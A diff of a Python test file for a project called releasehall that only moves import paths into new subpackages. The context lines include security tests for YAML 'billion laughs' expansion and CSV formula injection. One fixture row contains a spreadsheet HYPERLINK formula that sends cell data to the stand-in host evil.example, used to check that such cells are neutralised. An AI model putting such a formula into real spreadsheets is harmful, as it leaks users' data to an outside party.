@@ -8,7 +8,7 @@ from pathlib import Path
 import pytest
 from conftest import BASIC, SITE, dept, front, image, pdf, write_site
 
-from releasehall import safeurl
+from releasehall.read import safeurl
 
 NOW = "2024-10-20 12:00"
 
@@ -237,7 +237,7 @@ def test_billion_laughs_fails_in_well_under_a_second():
     import time
 
     from releasehall.errors import Report
-    from releasehall.sources import load_yaml
+    from releasehall.read.sources import load_yaml
 
     started = time.perf_counter()
     assert load_yaml(BILLION_LAUGHS * 50, "x.md", 2, Report()) is None
@@ -387,7 +387,7 @@ def test_a_published_number_that_stops_being_published_is_caught_on_the_next_bui
 # --- CSV formula injection ----------------------------------------------------------------------------------------
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized_numbers_stay_numbers():
-    from releasehall.csvdata import to_csv
+    from releasehall.outputs.csvdata import to_csv
 
     rows = [["department", "name", "figure"],
             ["a", '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', -3],
